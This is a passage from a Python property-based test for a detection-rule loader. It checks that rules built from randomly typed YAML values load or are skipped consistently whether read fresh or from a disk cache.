    meta=hs.fixed_dictionaries({"title": ODD, "id": ODD, "level": ODD, "tags": ODD, "status": ODD}),
    fieldname=hs.sampled_from(["CommandLine", "Image", ""]) | SCALARS,
    modifier=hs.sampled_from(["", "|contains", "|re", "|cidr", "|gt", "|fieldref", "|exists", "|all"]),
    value=ODD,
)
def test_odd_rules_load_alike_cold_and_warm(
    tmp_path_factory: pytest.TempPathFactory,
    private_cache: Path,
    meta: dict[str, object],
    fieldname: object,
    modifier: str,
    value: object,
) -> None:
    """Whatever types YAML hands over, a rule loads or is skipped, and the disk cache agrees."""
    key = fieldname if not modifier else f"{fieldname}{modifier}"
    document = {
        **meta,
        "logsource": {"category": "process_creation"},
        "detection": {"sel": {key: value}, "condition": "sel"},
    }
    folder = tmp_path_factory.mktemp("odd")
    cold = _load(folder, yaml.safe_dump(document))
    assert len(cold.rules) + len(cold.skipped) == 1
    warm = _reload(folder)
    assert warm.from_cache and not cold.from_cache
    assert [r.meta for r in warm.rules] == [r.meta for r in cold.rules]
    assert warm.skipped == cold.skipped
    assert all(isinstance(r.meta.title, str) and isinstance(r.meta.rule_id, str) for r in warm.rules)
    for event in (EV, RESTYLINK, {}):
        assert warm.match(event) == cold.match(event)
